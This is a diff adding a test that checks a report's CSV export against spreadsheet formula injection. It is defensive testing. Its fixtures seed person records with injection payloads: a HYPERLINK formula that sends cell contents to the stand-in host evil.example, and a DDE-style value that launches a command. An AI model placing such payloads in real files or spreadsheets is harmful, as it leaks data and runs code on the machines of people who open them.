@@ -129,3 +129,19 @@ def test_the_api_pages_rows(world, login_as, db):
         "/api/v1/reports/learning?page=2&page_size=1", headers=bearer(world.hr)
     ).get_json()
     assert (data["total"], data["page"], len(data["rows"])) == (4, 2, 1)
+
+
+def test_decision_evidence_csv_neutralises_spreadsheet_formulas(world, login_as, db):
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    title = "+SUM(1+1)*cmd|' /C calc'!A0"
+    f.make_person(name=name, job_title=title, department_id=world.support.id)
+    f.make_person(name="@SUM(1+1)", job_title="-2+3", department_id=world.support.id)
+    db.session.commit()
+    download = login_as(world.hr).get("/reports/decision-evidence.csv")
+    assert download.status_code == 200
+    table = list(csv.reader(io.StringIO(download.get_data(as_text=True))))
+    cells = {(row[0], row[1]) for row in table[1:]}
+    assert ("'" + name, "'" + title) in cells
+    assert ("'@SUM(1+1)", "'-2+3") in cells
+    starts = {cell[:1] for row in table for cell in row}
+    assert not starts & {"=", "+", "@", "\t", "\r"}
